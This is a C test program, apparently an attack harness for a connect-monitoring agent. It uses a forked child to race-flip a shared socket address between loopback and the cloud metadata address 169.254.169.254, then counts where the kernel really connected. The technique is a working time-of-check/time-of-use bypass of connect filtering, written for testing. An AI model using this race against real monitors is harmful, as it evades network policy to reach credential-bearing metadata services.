/* Attacker against skipped exit stops of connects: no second thread, two processes.
 *   sharedconnect WARM N          the sockaddr sits in a MAP_SHARED page; after WARM
 *                                 UDP connects to 127.0.0.1 with the page left alone,
 *                                 a forked child (its own mm) flips its address between
 *                                 127.0.0.1 and 169.254.169.254 during N more
 *   sharedconnect WARM N private  no child, the sockaddr on the stack: WARM connects to
 *                                 127.0.0.1, then N more of which every tenth goes to
 *                                 169.254.169.254 (a skipped loopback must not hide it)
 * Each socket's peer (getpeername) says where the kernel connected. Prints
 * "metadata M loopback L" for the last N connects: the ground truth. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct shared {
    struct sockaddr_in addr;
    volatile int go, stop;
};

static in_addr_t meta, lo;

/* Connect a new UDP socket to *a; 1 if its peer is the metadata address, 0 loopback. */
static int connect_once(const struct sockaddr_in *a) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0) exit(2);
    int where = -1;
    struct sockaddr_in peer;
    socklen_t len = sizeof peer;
    if (connect(s, (const struct sockaddr *)a, sizeof *a) == 0 &&
        getpeername(s, (struct sockaddr *)&peer, &len) == 0)
        where = peer.sin_addr.s_addr == meta;
    close(s);
    return where;
}

int main(int argc, char **argv) {
    int warm = argc > 1 ? atoi(argv[1]) : 200, n = argc > 2 ? atoi(argv[2]) : 300;
    int private = argc > 3 && strcmp(argv[3], "private") == 0;
    meta = inet_addr("169.254.169.254");
    lo = inet_addr("127.0.0.1");
    struct shared *sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (sh == MAP_FAILED) return 2;
    struct sockaddr_in mine;
    struct sockaddr_in *a = private ? &mine : &sh->addr;
    memset(a, 0, sizeof *a);
    a->sin_family = AF_INET;
    a->sin_port = htons(80);
    a->sin_addr.s_addr = lo;
    pid_t child = -1;
    if (!private && (child = fork()) == 0) {
        volatile in_addr_t *word = &sh->addr.sin_addr.s_addr;
        while (!sh->go) ;
        while (!sh->stop) {
            *word = meta;
            *word = lo;
        }
        _exit(0);
    }
    for (int i = 0; i < warm; i++)
        if (connect_once(a) != 0) return 3;
    struct timespec pause = {0, 300 * 1000 * 1000};
    nanosleep(&pause, NULL); /* the verdicts on the loopback connect reach the agent */
    sh->go = 1;
    int m = 0, l = 0;
    /* at least n connects, and on until a flip landed (a loaded host may starve the child) */
    for (int i = 0; i < n || (!private && m == 0 && i < 50 * n); i++) {
        if (private) a->sin_addr.s_addr = i % 10 == 9 ? meta : lo;
        int where = connect_once(a);
        m += where == 1;
        l += where == 0;
    }
    sh->stop = 1;
    if (child > 0) waitpid(child, NULL, 0);
    printf("metadata %d loopback %d\n", m, l);
    return 0;
}
